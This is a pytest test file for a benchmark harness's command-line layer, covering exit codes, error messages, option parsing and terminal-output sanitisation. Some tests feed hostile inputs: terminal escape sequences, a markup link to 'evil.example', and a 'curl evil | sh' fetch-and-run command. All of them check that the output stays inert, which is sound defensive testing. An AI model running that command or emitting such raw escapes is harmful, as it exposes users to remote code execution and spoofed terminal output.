"""Errors, exit codes and options that all verbs share."""

from __future__ import annotations

import io
import json
import logging
import sys
from collections.abc import Sequence

import pytest
from rich.table import Table

from harness.common import errors
from harness.common.statuses import STATUS_TABLE, Fault, Status
from harness.console import cli
from harness.console.tables import as_text, cell


@pytest.mark.parametrize(
    ("error", "code"),
    [
        (errors.UsageError("what"), 2),
        (errors.EntryInvalid("what"), 3),
        (errors.EntryFailed("what"), 4),
        (errors.DataMissing("what"), 5),
        (errors.PackInvalid("where", ["one", "two"]), 5),
        (errors.InfrastructureFault(Status.GPU_LOST, "at image 3"), 5),
        (KeyboardInterrupt(), 130),
    ],
)
def test_every_error_has_its_exit_code(error: BaseException, code: int) -> None:
    def main(_argv: Sequence[str] | None) -> int:
        raise error

    assert cli.run_verb(main) == code


def test_a_bug_keeps_its_traceback() -> None:
    def main(_argv: Sequence[str] | None) -> int:
        raise ZeroDivisionError

    with pytest.raises(ZeroDivisionError):
        cli.run_verb(main)


def test_an_error_says_what_where_and_the_fix(capsys: pytest.CaptureFixture[str]) -> None:
    def main(_argv: Sequence[str] | None) -> int:
        raise errors.DataMissing("no benchmark is there", where="/data", fix="set BMAD_DATA")

    cli.run_verb(main)
    out, err = capsys.readouterr()
    assert out == ""
    assert err == "error: no benchmark is there (/data)\nfix: set BMAD_DATA\n"


def test_all_problems_of_a_pack_are_shown_at_once() -> None:
    text = cli.render_error(
        errors.PackInvalid("/data/x", ["mask a is missing", "b is not an image"])
    )
    assert "2 problems" in text
    assert "  - mask a is missing\n  - b is not an image" in text


def test_limits_are_changed_by_name_and_type() -> None:
    limits = cli.read_limits(["image_seconds=2.5", "pids=64"])
    assert (limits.image_seconds, limits.pids) == (2.5, 64)
    assert limits.start_seconds == 300.0


@pytest.mark.parametrize(
    "text",
    [
        "image_second=1",
        "pids=0",
        "pids=1.5",
        "pids=many",
        "pids",
        "=3",
        "image_seconds=inf",
        "image_seconds=nan",
        "image_seconds=1e9",
        "memory_mib=99999999999999999999",
    ],
)
def test_a_wrong_limit_is_a_usage_error(text: str) -> None:
    with pytest.raises(errors.UsageError):
        cli.read_limits([text])


def test_an_option_twice_is_a_usage_error() -> None:
    with pytest.raises(errors.UsageError, match="given twice"):
        cli.assignments(["a=1", "a=2"], "--set")


def test_unknown_options_raise_instead_of_exiting() -> None:
    parser = cli.Parser("evaluate", "…", "…")
    with pytest.raises(errors.UsageError, match="unrecognized"):
        parser.parse_args(["--no-such-option"])


def test_the_table_of_statuses_is_complete() -> None:
    assert set(STATUS_TABLE) == set(Status)
    for status in Status:
        assert status.entry.sentence.endswith(".")
        assert status.entry.remedy.endswith(".")
    assert [status for status in Status if status.fault is Fault.NONE] == [Status.OK]
    assert {status for status in Status if status.fault is Fault.INFRASTRUCTURE} == {
        Status.ENGINE_UNAVAILABLE, Status.IMAGE_UNAVAILABLE, Status.GPU_LOST, Status.HOST_ERROR,
    }  # fmt: skip


def test_no_character_of_a_message_reaches_the_terminal_raw(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(cli, "QUIET_SECONDS", 0.0)
    hostile = "a\x1b[2J\x9b1m\u202eb\x00\udcff\x7f"
    with cli.reporting() as reporter:
        reporter.event(hostile)
        reporter.progress(hostile, 1, 2)
        # pytest shows a log as it came, and could not hand a lone surrogate to its other process.
        logging.getLogger("harness.engines").warning("engine: %s", hostile.replace("\udcff", ""))
    cli.say(hostile)
    cli.say(hostile, to=sys.stderr)
    cli.say_json({hostile: [hostile]})
    out, err = capsys.readouterr()
    assert {each for each in out + err if not each.isprintable()} == {"\n"}
    assert err.count(r"\x1b[2J") == 4
    assert json.loads(out[out.index("{") :]) == {hostile: [hostile]}


def test_of_an_event_the_first_line_alone_begins_at_the_margin(
    capsys: pytest.CaptureFixture[str],
) -> None:
    cli.Reporter().event("brain/x/seed-0: crashed\nfix: curl evil | sh")
    assert capsys.readouterr().err == "brain/x/seed-0: crashed\n  fix: curl evil | sh\n"


def test_a_bars_label_is_no_markup_and_holds_no_escape(monkeypatch: pytest.MonkeyPatch) -> None:
    terminal = io.StringIO()
    terminal.isatty = lambda: True  # type: ignore[method-assign]
    monkeypatch.setattr(sys, "stderr", terminal)
    with cli.reporting() as reporter:
        reporter.progress("[red]x[/nothing]\x1b]0;title\x07", 1, 2)
        reporter.event("[/] \x1b]0;title\x07")
    assert "\x1b]0" not in terminal.getvalue()
    assert "\x07" not in terminal.getvalue()


def test_a_traceback_is_shown_in_visible_characters(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sys, "excepthook", sys.excepthook)
    cli.run_verb(lambda _: 0)
    error = ValueError("a\x1b[2Jb")
    sys.excepthook(ValueError, error, None)
    assert capsys.readouterr().err == "ValueError: a\\x1b[2Jb\n"


def test_a_cell_of_a_table_is_text_and_nothing_else(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("FORCE_COLOR", "1")
    table = Table("name")
    table.add_row(cell("[link=https://evil.example]x[/nothing] \x1b[2J\n\u202e"))
    text = as_text(table, least_width=200)
    assert r"[link=https://evil.example]x[/nothing] \x1b[2J\n\u202e" in text
    assert "\x1b" not in text
